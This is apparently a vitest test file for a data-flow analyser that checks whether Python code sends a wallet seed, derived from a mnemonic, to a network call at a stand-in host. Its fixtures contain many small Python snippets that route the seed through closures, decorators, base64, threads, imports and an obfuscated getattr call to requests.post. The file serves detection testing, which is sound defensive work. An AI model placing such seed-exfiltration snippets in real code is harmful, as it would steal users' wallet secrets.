import { expect, test } from 'vitest';
import { analyseSources } from '../flow/testing/analyseSources.ts';

const KEY =
  'from mnemonic import Mnemonic\nimport requests\ndef key(w): return Mnemonic("english").to_seed(w)\ndef send(x): requests.post("https://example.invalid", data=x)\n';

/** Each construct takes what `key(w)` gives to `send`. */
test.each<[string, string, Readonly<Record<string, string>>?]>([
  ['a call', 'send(key(w))'],
  ['an f-string', 'send(f"a{key(w)!r:>{9}}b")'],
  ['percent and format', 'send("%s" % "{}".format(key(w)))'],
  ['a slice', 'send(key(w)[1:][::-1])'],
  ['unpacking', 'a, (b, *c) = 1, (2, key(w))\nsend(c)'],
  ['a dictionary', 'd = {"k": key(w)}\nsend(d["k"])'],
  ['a dictionary that is unpacked', 'd = {**{"k": key(w)}}\nsend(d)'],
  ['a comprehension', 'send([x for x in [key(w)] if x])'],
  ['a generator', 'def g(w):\n  yield key(w)\nfor x in g(w): send(x)'],
  ['yield from', 'def g(w):\n  yield key(w)\ndef h(w):\n  yield from g(w)\nsend(list(h(w)))'],
  ['a keyword', 'def f(*, a=None): send(a)\nf(a=key(w))'],
  ['rest arguments', 'def f(*a, **k): send(k)\nf(1, k=key(w))'],
  ['spread arguments', 'def f(a, b): send(b)\nf(*[1, key(w)])'],
  ['a default', 'def f(a=key(w)): send(a)\nf()'],
  ['a lambda', 'f = lambda a: send(a)\nf(key(w))'],
  ['a closure', 'def f(a):\n  def g(): send(a)\n  return g\nf(key(w))()'],
  ['nonlocal', 'def f():\n  a = 1\n  def g():\n    nonlocal a\n    a = key(w)\n  g()\n  send(a)\nf()'],
  ['global', 'def f():\n  global held\n  held = key(w)\ndef g(): send(held)\nf()\ng()'],
  ['a member', 'class A:\n  def __init__(self, k): self.k = k\n  def out(self): send(self.k)\nA(key(w)).out()'],
  ['a property', 'class A:\n  @property\n  def k(self): return key(w)\nsend(A().k)'],
  [
    'a setter',
    'class A:\n  @property\n  def k(self): return 1\n  @k.setter\n  def k(self, v): send(v)\na = A()\na.k = key(w)',
  ],
  [
    'a class method',
    'class A:\n  @classmethod\n  def of(cls, k): return cls(k)\n  def __init__(self, k): send(k)\nA.of(key(w))',
  ],
  ['a static method', 'class A:\n  @staticmethod\n  def out(k): send(k)\nA.out(key(w))'],
  [
    'super()',
    'class B:\n  def __init__(self, k): send(k)\nclass A(B):\n  def __init__(self, k): super().__init__(k)\nA(key(w))',
  ],
  [
    'a method of a base',
    'class B:\n  def out(self, k): send(k)\nclass A(B):\n  def out(self, k): super().out(k)\nA().out(key(w))',
  ],
  [
    'a base by its name',
    'class B:\n  def __init__(self, k): send(k)\nclass A(B):\n  def __init__(self, k): B.__init__(self, k)\nA(key(w))',
  ],
  [
    'a data class',
    'from dataclasses import dataclass\n@dataclass\nclass A:\n  k: bytes\n  def out(self): send(self.k)\nA(k=key(w)).out()',
  ],
  [
    'a decorated function',
    'def log(f):\n  def g(*a): return f(*a)\n  return g\n@log\ndef out(k): send(k)\nout(key(w))',
  ],
  [
    'a decorator that sends',
    'def log(f):\n  def g(*a):\n    send(a)\n    return f(*a)\n  return g\n@log\ndef out(k): pass\nout(key(w))',
  ],
  ['with', 'class A:\n  def __enter__(self): return key(w)\nwith A() as k: send(k)'],
  ['an exception', 'def f(): raise ValueError(key(w))\ntry: f()\nexcept ValueError as e: send(e)'],
  ['match', 'match {"k": key(w)}:\n  case {"k": v}: send(v)'],
  ['a walrus', 'if (k := key(w)): send(k)'],
  ['await', 'async def f(): return key(w)\nasync def g(): send(await f())'],
  ['getattr and setattr', 'class A: pass\na = A()\nsetattr(a, "k", key(w))\nsend(getattr(a, "k"))'],
  ['getattr on a module', 'getattr(requests, "po" + "st")("https://example.invalid", data=key(w))'],
  ['vars', 'class A: pass\na = A()\nvars(a)["k"] = key(w)\nsend(a.k)'],
  ['a thread', 'import threading\nthreading.Thread(target=send, args=(key(w),)).start()'],
  ['partial', 'from functools import partial\npartial(send, key(w))()'],
  ['a queue', 'from queue import Queue\nq = Queue()\nq.put(key(w))\nsend(q.get())'],
  ['join and b64', 'import base64\nsend("".join(["x", base64.b64encode(key(w)).decode()]))'],
  ['+=', 's = ""\ns += key(w)\nsend(s)'],
  [
    'a module of the package',
    'from .out import push\npush(key(w))',
    { 'p/out.py': 'from .main import send\ndef push(x): send(x)\n' },
  ],
  [
    'a submodule',
    'from . import out\nout.push(key(w))',
    { 'p/out.py': 'from .main import send\ndef push(x): send(x)\n' },
  ],
  [
    'a star import',
    'from .out import *\npush(key(w))',
    { 'p/out.py': 'from .main import send\ndef push(x): send(x)\n' },
  ],
  [
    'a star import handed on',
    'from .hub import push\npush(key(w))',
    { 'p/hub.py': 'from .out import *\n', 'p/out.py': 'from .main import send\ndef push(x): send(x)\n' },
  ],
  [
    'import_module',
    'import importlib\nimportlib.import_module(".out", __package__).push(key(w))',
    { 'p/out.py': 'from .main import send\ndef push(x): send(x)\n' },
  ],
  [
    'a module imported by its whole name',
    'import p.out\np.out.push(key(w))',
    { 'p/out.py': 'from .main import send\ndef push(x): send(x)\n' },
  ],
  [
    'an import inside a function',
    'def f(k):\n  from .out import push as q\n  q(k)\nf(key(w))',
    { 'p/out.py': 'from .main import send\ndef push(x): send(x)\n' },
  ],
])('a key is followed through %s', async (_, text, more = {}) => {
  const files = { 'p/__init__.py': '', 'p/main.py': `${KEY}w = input()\n${text}\n`, ...more };
  const report = await analyseSources(files);
  expect(report.flows.some(({ source, sink }) => source === 'key' && sink === 'network')).toBe(true);
});

test('what runs only as a script does not run at import', async () => {
  const text = 'import requests\ndef main(): requests.get("https://example.invalid")\n';
  const atLoad = async (more: string): Promise<boolean[]> =>
    (await analyseSources({ 'a.py': text + more })).uses
      .filter(({ capability }) => capability === 'network')
      .map((use) => use.atLoad);
  expect(await atLoad('main()')).toEqual([true]);
  expect(await atLoad('if __name__ == "__main__":\n  main()')).toEqual([false]);
});

test.each([
  ['nothing of it is sent', 'k = key(w)\nsend("x")'],
  ['what is sent is another value', 'a, b = key(w), "x"\nsend(b)'],
  ['only its length is sent', 'send(len(key(w)))'],
  ['another member is sent', 'class A: pass\na = A()\na.k = key(w)\na.n = 1\nsend(a.n)'],
  ['a name is taken again elsewhere', 'def f():\n  x = key(w)\ndef g():\n  x = 1\n  send(x)'],
])('no key is followed where %s', async (_, text) => {
  const report = await analyseSources({ 'p/main.py': `${KEY}w = input()\n${text}\n` });
  expect(report.flows).toEqual([]);
});
